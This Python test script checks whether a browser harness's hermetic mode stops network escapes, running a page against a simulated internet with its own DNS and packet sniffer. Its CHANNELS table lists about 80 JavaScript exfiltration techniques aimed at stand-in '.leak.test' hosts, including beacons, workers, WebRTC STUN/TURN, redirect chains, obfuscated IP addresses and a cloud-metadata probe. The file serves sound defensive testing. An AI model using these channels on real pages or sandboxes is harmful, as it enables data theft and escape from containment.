"""Every way out of a browser that we know of, tried in a network namespace whose every address is a fake internet.

    unshare --net --mount python tests/escapes.py hermetic|plain --folder FOLDER [--engine chromium] [--unsealed]

In: a page of ours that tries each channel to a host of its own, `<channel>.leak.test` (or an address of its own). Out: JSON with, for each
channel, whether anything of it arrived outside this machine (a packet, a name that was looked up), and whether the timeline names it.
"plain" is the same browser without the harness: there they arrive.
"""

from __future__ import annotations

import argparse
import json
import os
import re
import socket
import ssl
import struct
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from contextlib import ExitStack, contextmanager
from dataclasses import replace
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import trustme
from playwright.sync_api import Page, sync_playwright

from harness.config.reading import read_config
from harness.drive.browsers import find_browser
from harness.model.events import RequestBlocked
from harness.servers.scenarios import scenario_named
from harness.servers.server import serve_stack
from harness.visit.browser import launched_browser, opened
from harness.visit.target import Keep, target_of

OUTSIDE = "93.184.216.2"
TCP_PORTS = (80, 443, 3478, 8080, 8443, 8081)
REDIRECTS = (301, 302, 303, 307, 308)
# Each tries one channel; `host` is the channel's own host, `url` is https://<host>/<channel>, `own` the page's own origin.
CHANNELS: dict[str, str] = {
    "fetch": "await fetch(url)",
    "fetch-http": "await fetch(url.replace('https', 'http'))",
    "fetch-post": "await fetch(url, {method: 'POST', mode: 'no-cors', body: 'secret'})",
    "fetch-keepalive": "await fetch(url, {keepalive: true, method: 'POST', body: 'x'})",
    "fetch-cors-preflight": "await fetch(url, {method: 'PUT', headers: {'x-a': 'b'}})",
    "xhr": "const x = new XMLHttpRequest(); x.open('GET', url); x.send()",
    "beacon": "navigator.sendBeacon(url, 'secret')",
    "image": "new Image().src = url",
    "script": "tag('script', {src: url})",
    "module": "tag('script', {src: url, type: 'module'})",
    "dynamic-import": "await import(url)",
    "stylesheet": "tag('link', {rel: 'stylesheet', href: url})",
    "css-import": "tag('style', {textContent: `@import '${url}';`})",
    "css-background": "tag('style', {textContent: `body { background: url('${url}'); }`})",
    "font": "await new FontFace('leak', `url(${url})`).load()",
    "iframe": "tag('iframe', {src: url})",
    "iframe-srcdoc": "tag('iframe', {srcdoc: `<img src='${url}'>`})",
    "iframe-meta-refresh": "tag('iframe', {srcdoc: `<meta http-equiv=refresh content='0;url=${url}'>`})",
    "object": "tag('object', {data: url})",
    "embed": "tag('embed', {src: url})",
    "video": "tag('video', {src: url, autoplay: true, preload: 'auto'})",
    "audio": "new Audio(url).load()",
    "svg-image": "tag('div', {innerHTML: `<svg><image href='${url}'/></svg>`})",
    "icon": "tag('link', {rel: 'icon', href: url})",
    "prefetch": "tag('link', {rel: 'prefetch', href: url})",
    "preload": "tag('link', {rel: 'preload', as: 'image', href: url})",
    "modulepreload": "tag('link', {rel: 'modulepreload', href: url})",
    "preconnect": "tag('link', {rel: 'preconnect', href: url})",
    "dns-prefetch": "tag('link', {rel: 'dns-prefetch', href: url})",
    "speculation": "tag('script', {type: 'speculationrules', textContent: JSON.stringify({prefetch: [{source: 'list', urls: [url]}]})})",
    "prerender": "tag('script', {type: 'speculationrules', textContent: JSON.stringify({prerender: [{source: 'list', urls: [url]}]})})",
    "event-source": "new EventSource(url)",
    "form-post": "const f = tag('form', {action: url, method: 'post', target: 'sink'}); f.submit()",
    "ping": "const a = tag('a', {href: '#x', ping: url}); a.click()",
    "popup": "window.open(url)",
    "download": "const a = tag('a', {href: url, download: 'x', target: 'sink2'}); a.click()",
    "websocket": "new WebSocket(url.replace('https', 'wss'))",
    "websocket-plain": "new WebSocket(url.replace('https', 'ws'))",
    "websocket-iframe": "tag('iframe', {srcdoc: `<script>new WebSocket('${url.replace('https', 'wss')}')</` + `script>`})",
    "websocket-popup": "const w = window.open('about:blank'); w.eval(`new WebSocket('${url.replace('https', 'wss')}')`)",
    "worker-fetch": "worker(`fetch('${url}')`)",
    "worker-websocket": "worker(`new WebSocket('${url.replace('https', 'wss')}')`)",
    "worker-import-scripts": "worker(`importScripts('${url}')`)",
    "worker-event-source": "worker(`new EventSource('${url}')`)",
    "shared-worker-fetch": "new SharedWorker(blob(`fetch('${url}')`))",
    "shared-worker-websocket": "new SharedWorker(blob(`new WebSocket('${url.replace('https', 'wss')}')`))",
    "service-worker-fetch": "await navigator.serviceWorker.register('/sw-fetch.js?' + url, {scope: '/a/'})",
    "service-worker-websocket": "await navigator.serviceWorker.register('/sw-socket.js?' + url, {scope: '/b/'})",
    "worklet": "await new AudioContext().audioWorklet.addModule(url)",
    "web-transport": "new WebTransport(url)",
    "stun-name": "peer(`stun:${host}:3478`)",
    "stun-address": "peer('stun:' + address + ':3478')",
    "turn-tcp": "peer(`turn:${host}:3478?transport=tcp`)",
    "stun-iframe": "peer(`stun:${host}:3478`, tag('iframe', {}).contentWindow)",
    "turns": "peer(`turns:${host}:443`)",
    "csp-report": "tag('iframe', {src: '/csp?' + url})",
    "address-dotted": "await fetch('http://' + address + '/x')",
    "address-decimal": "await fetch('http://' + decimal + '/x')",
    "address-hex": "await fetch('http://0x' + Number(decimal).toString(16) + '/x')",
    "address-link-local": "await fetch('http://169.254.169.254/latest/meta-data')",
    "address-ipv6": "await fetch('http://[2606:2800:220:1::1]/x')",
    "port-8443": "await fetch(`https://${host}:8443/x`)",
    "port-8080": "await fetch(`http://${host}:8080/x`)",
    "openai-other-port": "await fetch('https://api.openai.com:8443/x')",
    **{f"redirect-{code}-fetch": f"await fetch('/r/{code}?' + url)" for code in REDIRECTS},
    **{
        f"redirect-{code}-post": f"await fetch('/r/{code}?' + url, {{method: 'POST', mode: 'no-cors', body: 's'}})"
        for code in REDIRECTS
    },
    "redirect-image": "new Image().src = '/r/302?' + url",
    "redirect-script": "tag('script', {src: '/r/302?' + url})",
    "redirect-iframe": "tag('iframe', {src: '/r/302?' + url})",
    "redirect-form": "const f = tag('form', {action: '/r/307?' + url, method: 'post', target: 'sink3'}); f.submit()",
    "redirect-worker-fetch": "worker(`fetch('${own}/r/307?${url}', {method: 'POST', body: 's'})`)",
    "redirect-event-source": "new EventSource('/r/307?' + url)",
    "redirect-beacon": "navigator.sendBeacon('/r/307?' + url, 's')",
}
# What a browser may do by itself, and does not do at all behind a proxy; nothing of it may arrive.
UNNAMED = {
    "chromium": ("icon", "csp-report", "preconnect", "dns-prefetch", "speculation", "prerender"),
    "firefox": ("icon", "csp-report", "preconnect", "dns-prefetch", "speculation", "prerender", "ping"),
}
PAGE = """<!doctype html><title>escapes</title><iframe name=sink></iframe><iframe name=sink2></iframe><iframe name=sink3></iframe>
<script type=module>
const own = location.origin;
const tag = (name, given) => document.body.appendChild(Object.assign(document.createElement(name), given));
const blob = (text) => URL.createObjectURL(new Blob([text], {type: 'text/javascript'}));
const worker = (text) => new Worker(blob(text));
const peer = (urls, scope = window) => {
  const p = new scope.RTCPeerConnection({iceServers: [{urls, username: 'u', credential: 'c'}]});
  p.createDataChannel('x');
  p.createOffer().then((offer) => p.setLocalDescription(offer));
};
const tries = {TRIES};
let left = tries.length;
for (const [name, host, address, decimal, run] of tries) {
  const url = `https://${host}/${name}`;
  Promise.resolve().then(() => run({host, address, decimal, url, own, tag, blob, worker, peer})).catch(() => {}).then(() => { left -= 1; });
}
setTimeout(() => { window.isOver = true; }, WAIT);
</script>"""
WAIT_MS = 6_000  # for what the browser does when it likes
LONGEST_S = 300  # for what has to be named


def addresses() -> dict[str, tuple[str, str]]:
    """Return each channel's host and address."""
    return {name: (f"{name}.leak.test", f"93.184.216.{number}") for number, name in enumerate(CHANNELS, start=20)}


def place_of(name: str) -> tuple[str, str]:
    """Return the host and the address that are asked for on a channel, "" for none."""
    special = {
        "address-link-local": ("", "169.254.169.254"),
        "address-ipv6": ("", "2606:2800:220:1::1"),
        "openai-other-port": ("api.openai.com", ""),
    }
    return special.get(name) or addresses()[name]


def page() -> str:
    """Return the page that tries every channel."""
    tries = []
    for name, (host, address) in addresses().items():
        decimal = struct.unpack("!I", socket.inet_aton(address))[0]
        body = f"async ({{host, address, decimal, url, own, tag, blob, worker, peer}}) => {{ {CHANNELS[name]} }}"
        tries.append(f"[{json.dumps(name)}, {json.dumps(host)}, {json.dumps(address)}, '{decimal}', {body}]")
    return PAGE.replace("{TRIES}", "[" + ",\n".join(tries) + "]").replace("WAIT", str(WAIT_MS))


class _Server(ThreadingHTTPServer):
    request_queue_size = 500


class _Own(BaseHTTPRequestHandler):
    """The page's own server, on loopback."""

    protocol_version = "HTTP/1.1"

    def _answer(self) -> None:
        path, _, rest = self.path.partition("?")
        self.rfile.read(int(self.headers.get("content-length") or 0))
        status, headers, body = 200, {"content-type": "text/html; charset=utf-8"}, page()
        if path.startswith("/r/"):
            status, headers, body = int(path[3:]), {"location": rest, "access-control-allow-origin": "*"}, ""
        elif path == "/sw-fetch.js":
            headers, body = {"content-type": "text/javascript", "service-worker-allowed": "/"}, f"fetch('{rest}')"
        elif path == "/sw-socket.js":
            headers, body = (
                {"content-type": "text/javascript", "service-worker-allowed": "/"},
                f"new WebSocket('{rest.replace('https', 'wss')}')",
            )
        elif path == "/csp":
            headers |= {"content-security-policy": f"img-src 'none'; report-uri {rest}"}
            body = "<img src=/x.png>"
        content = body.encode()
        self.send_response(status)
        for name, value in headers.items():
            self.send_header(name, value)
        self.send_header("content-length", str(len(content)))
        self.end_headers()
        self.wfile.write(content)

    do_GET = do_POST = do_PUT = do_OPTIONS = _answer  # noqa: N815 (the names of http.server)

    def log_message(self, *_given: object) -> None:
        """Say nothing."""


# --- the fake internet --------------------------------------------------------------------------------------------


class Internet:
    """Everything outside: answers names and connections at every address, and writes down who and what arrived."""

    def __init__(self) -> None:
        self.arrived: set[str] = set()

    @contextmanager
    def running(self) -> Iterator[None]:
        """Listen until the block ends; the process ends with it."""
        _ip("link", "set", "lo", "up", "multicast", "on")
        _ip("link", "add", "v0", "type", "veth", "peer", "name", "v1")  # WebRTC asks nobody where there is no network
        _ip("addr", "add", "10.9.0.2/24", "dev", "v0")
        _ip("link", "set", "v0", "up")
        _ip("link", "set", "v1", "up")
        _ip("route", "add", "local", "0.0.0.0/0", "dev", "lo")
        _ip("-6", "route", "add", "local", "::/0", "dev", "lo")
        _ip("route", "add", "multicast", "224.0.0.0/4", "dev", "lo")
        resolv = Path(f"/tmp/resolv-{os.getpid()}")
        resolv.write_text("nameserver 93.184.216.1\noptions timeout:1 attempts:1\n")
        subprocess.run(["mount", "--bind", str(resolv), "/etc/resolv.conf"], check=True)
        tls = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
        trustme.CA().issue_cert("*.leak.test").configure_cert(tls)
        sniffer = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.ntohs(0x0003))
        sniffer.bind(("lo", 0))
        threading.Thread(target=self._sniff, args=(sniffer,), daemon=True).start()
        names = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        names.bind(("93.184.216.1", 53))
        threading.Thread(target=self._resolve, args=(names,), daemon=True).start()
        for port in TCP_PORTS:
            server = socket.create_server(("0.0.0.0", port), backlog=200)
            threading.Thread(target=self._serve, args=(server, tls), daemon=True).start()
        yield

    def _sniff(self, sniffer: socket.socket) -> None:
        """Write down the destination of every packet that is not for this machine."""
        while True:
            frame = sniffer.recv(65535)[14:]
            if frame[0] >> 4 == 4:
                to, source = socket.inet_ntoa(frame[16:20]), socket.inet_ntoa(frame[12:16])
                size = (frame[0] & 15) * 4
                protocol, port = frame[9], struct.unpack("!H", frame[size + 2 : size + 4])[0]
            else:
                to, source = (
                    socket.inet_ntop(socket.AF_INET6, frame[24:40]),
                    socket.inet_ntop(socket.AF_INET6, frame[8:24]),
                )
                protocol, port = frame[6], struct.unpack("!H", frame[42:44])[0]
            if (
                not to.startswith("127.")
                and to != "::1"
                and not source.startswith("93.184.216.1")
                and protocol in (6, 17)
            ):
                kind = "tcp" if protocol == 6 else "udp"
                self.arrived.add(f"{kind} {to}:{port}")

    def _resolve(self, names: socket.socket) -> None:
        """Answer every name: a channel's with its own address."""
        known = dict(addresses().values())
        while True:
            query, sender = names.recvfrom(2048)
            labels, at = [], 12
            while query[at]:
                labels.append(query[at + 1 : at + 1 + query[at]].decode("latin-1"))
                at += query[at] + 1
            name, kind = ".".join(labels).lower(), struct.unpack("!H", query[at + 1 : at + 3])[0]
            self.arrived.add(f"dns {name}")
            question = query[12 : at + 5]
            has_answer = kind == 1
            head = query[:2] + struct.pack("!HHHHH", 0x8180, 1, int(has_answer), 0, 0)
            answer = (
                struct.pack("!HHHIH", 0xC00C, 1, 1, 60, 4) + socket.inet_aton(known.get(name, OUTSIDE))
                if has_answer
                else b""
            )
            names.sendto(head + question + answer, sender)

    def _serve(self, server: socket.socket, tls: ssl.SSLContext) -> None:
        while True:
            connection, _ = server.accept()
            threading.Thread(target=self._answer, args=(connection, tls), daemon=True).start()

    @staticmethod
    def _answer(connection: socket.socket, tls: ssl.SSLContext) -> None:
        try:
            connection.settimeout(5)
            if connection.recv(1, socket.MSG_PEEK) == b"\x16":
                connection = tls.wrap_socket(connection, server_side=True)
            connection.recv(65535)
            connection.sendall(
                b"HTTP/1.1 200 OK\r\naccess-control-allow-origin: *\r\ncontent-length: 2\r\nconnection: close\r\n\r\nok"
            )
        except OSError:
            pass
        finally:
            connection.close()

    def of(self, name: str) -> list[str]:
        """Return what arrived of a channel."""
        host, address = place_of(name)
        return sorted(seen for seen in self.arrived if seen == f"dns {host}" or f" {address}:" in seen)


def _ip(*arguments: str) -> None:
    subprocess.run(["ip", *arguments], check=False, capture_output=True)


# --- the runs -----------------------------------------------------------------------------------------------------


def stay(shown: Page) -> None:
    """Wait until the page has tried everything."""
    shown.wait_for_function("window.isOver", timeout=60_000)


def plain(url: str, engine: str) -> list[RequestBlocked]:
    """Try everything in a browser that nobody holds back."""
    with sync_playwright() as playwright:
        options = find_browser(engine, "", os.environ).launch_options()
        browser = getattr(playwright, engine).launch(**options)
        shown = browser.new_context(ignore_https_errors=True).new_page()
        shown.goto(url, wait_until="commit")
        stay(shown)
        browser.close()
    return []


def hermetic(url: str, engine: str, folder: Path, *, is_sealed: bool) -> list[RequestBlocked]:
    """Try everything in a hermetic visit; return what its timeline says was kept on this machine."""
    config = read_config(None, environ={"CHATKIT_HARNESS_BROWSER": engine}, root=folder)
    target = replace(target_of(config.project_at(url)), network="hermetic")
    with (
        serve_stack(scenario=scenario_named("healthy")) as stack,
        launched_browser(config, is_sealed=is_sealed) as browser,
        opened(browser, target, folder, config=config, keep=Keep(screenshot="off"), stack=stack) as visit,
    ):
        visit.open()
        stay(visit.page)
        ends_s = time.monotonic() + LONGEST_S
        while True:
            entries = visit.embed.timeline.entries
            blocked = [entry.event for entry in entries if isinstance(entry.event, RequestBlocked)]
            if time.monotonic() > ends_s or all(
                is_named(name, blocked) for name in CHANNELS if name not in UNNAMED[engine]
            ):
                return blocked
            visit.page.wait_for_timeout(100)


def is_named(name: str, blocked: list[RequestBlocked]) -> bool:
    """Whether something that was kept on this machine says that it was this channel."""
    places = "|".join(re.escape(place) for place in place_of(name) if place)
    return any(re.search(rf"(?:^|[/:\[])(?:{places})(?:[/:\]]|$)", event.url) for event in blocked)


def main() -> None:
    """Run one mode, and print what became of each channel."""
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("mode", choices=("plain", "hermetic"))
    parser.add_argument("--engine", default="chromium")
    parser.add_argument("--unsealed", action="store_true", help="in a browser that live visits are made in, too")
    parser.add_argument("--folder", type=Path, required=True)
    given = parser.parse_args()
    internet = Internet()
    with ExitStack() as resources:
        resources.enter_context(internet.running())
        server = _Server(("127.0.0.1", 0), _Own)
        threading.Thread(target=server.serve_forever, daemon=True).start()
        url = f"http://127.0.0.1:{server.server_port}/"
        blocked = (
            plain(url, given.engine)
            if given.mode == "plain"
            else hermetic(url, given.engine, given.folder, is_sealed=not given.unsealed)
        )
        time.sleep(0.5)
    result: dict[str, Any] = {
        "channels": {name: {"arrived": internet.of(name), "is_named": is_named(name, blocked)} for name in CHANNELS}
    }
    known = {seen for name in CHANNELS for seen in internet.of(name)}
    result["others"] = sorted(internet.arrived - known)
    result["blocked"] = [event.url for event in blocked]
    json.dump(result, sys.stdout, indent=1)


if __name__ == "__main__":
    main()
